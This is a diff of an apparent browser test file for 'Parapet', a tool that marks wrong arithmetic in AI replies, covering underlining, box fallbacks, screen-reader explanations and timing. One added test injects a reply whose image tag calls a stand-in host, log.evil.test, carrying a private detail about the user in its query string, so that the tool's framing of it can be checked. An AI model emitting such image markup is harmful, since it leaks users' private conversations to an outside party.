@@ -119,7 +119,7 @@ describe('following', () => {
   });
 });
 
-const wrong = '<p>We know that 17 × 24 = <b>418</b>, roughly speaking.</p>'.replace(', roughly speaking', '');
+const wrong = '<p>We know that 17 × 24 = <b>418</b>.</p>';
 
 describe('marking', () => {
   test('underlines the exact words and leaves the tree and the layout as they were', async () => {
@@ -173,6 +173,33 @@ describe('marking', () => {
   });
 });
 
+/** The boxes in Parapet's closed root. */
+async function boxes(): Promise<number> {
+  const devtools = await page.context().newCDPSession(page);
+  const { root } = await devtools.send('DOM.getDocument', { depth: -1, pierce: true });
+  await devtools.detach();
+  return JSON.stringify(root).match(/"class","box/g)?.length ?? 0;
+}
+
+describe('what cannot be underlined', () => {
+  test('a picture that would carry data gets a frame', async () => {
+    await addReplies(
+      '<p>Done. <img alt="ok" width="60" height="40" src="https://log.evil.test/c.gif?q=the+user+asked+about+his+divorce"></p>',
+    );
+    await start();
+    await expect.poll(boxes).toBe(1);
+  });
+
+  test('without the browser’s highlights the words get boxes, which go with the words', async () => {
+    await addReplies(wrong);
+    await page.evaluate(() => Reflect.deleteProperty(CSS, 'highlights'));
+    await start();
+    await expect.poll(boxes).toBe(1);
+    await page.evaluate(() => document.querySelector('.reply')!.remove());
+    await expect.poll(boxes).toBe(0);
+  });
+});
+
 /** What an assistive technology is told of Parapet's part of the page: only the developer tools see into a closed root. */
 async function spoken(): Promise<string> {
   const devtools = await page.context().newCDPSession(page);
@@ -191,6 +218,8 @@ describe('explaining', () => {
     await page.keyboard.press('Tab');
     await page.keyboard.press('Enter');
     await expect.poll(spoken).toContain('17 × 24 is 408, not 418.');
+    const shots = process.env['SCREENSHOTS'];
+    if (shots) await page.waitForTimeout(300).then(() => page.screenshot({ path: `${shots}/marks-keyboard.png` }));
     await page.keyboard.press('ArrowDown');
     await expect.poll(spoken).toContain('5 + 6 is 11, not 12.');
     await page.keyboard.press('Escape');
@@ -228,8 +257,6 @@ describe('cost', () => {
     await page.waitForTimeout(500);
     await page.evaluate(() => (window.lab.longest = 0));
     await start();
-    await page.waitForTimeout(5000);
-    console.log(await page.evaluate(() => [window.lab.segments.length, window.lab.count(), window.lab.longest]));
     await expect.poll(async () => (await painted()).length, { timeout: 20_000 }).toBe(50);
     const times: number[] = [];
     for (let round = 0; round < 10; round++) {
@@ -247,5 +274,12 @@ describe('cost', () => {
       process.stdout.write(`longest task ${longest} ms, to mark ${times.map(Math.round).join(' ')} ms\n`);
     expect(worst).toBeLessThan(300);
     expect(longest).toBeLessThan(50);
+    // and the meter does see a long task
+    await page.evaluate(() =>
+      setTimeout(() => {
+        for (const end = performance.now() + 80; performance.now() < end;);
+      }),
+    );
+    await expect.poll(() => page.evaluate(() => window.lab.longest)).toBeGreaterThanOrEqual(50);
   }, 60_000);
 });
